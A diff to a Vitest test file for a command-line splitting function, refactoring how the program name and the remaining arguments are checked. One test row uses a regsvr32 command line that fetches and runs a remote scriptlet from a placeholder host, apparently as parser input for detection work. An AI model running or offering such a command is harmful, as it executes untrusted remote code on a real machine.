@@ -1,5 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { splitProgram } from "./program.ts";
+import { rest } from "./tokens.ts";
 
 describe("splitProgram", () => {
   it.each<[string, string | undefined, string, string]>([
@@ -21,9 +22,9 @@ describe("splitProgram", () => {
     ["regsvr32/s/u/i:http://h/x.sct scrobj.dll", undefined, "regsvr32", "/s/u/i:http://h/x.sct scrobj.dll"],
     ["bin/tool.exe x", undefined, "bin/tool.exe", "x"],
     ["", undefined, "", ""],
-  ])("%s", (text, image, program, rest) => {
-    const line = splitProgram(text, image);
-    expect([line.program.value, line.rest]).toEqual([program, rest]);
+  ])("%s", (text, image, value, behind) => {
+    const { program } = splitProgram(text, image);
+    expect([program.value, rest(text, program)]).toEqual([value, behind]);
   });
 
   it("ends a typed command at its slash", () => {
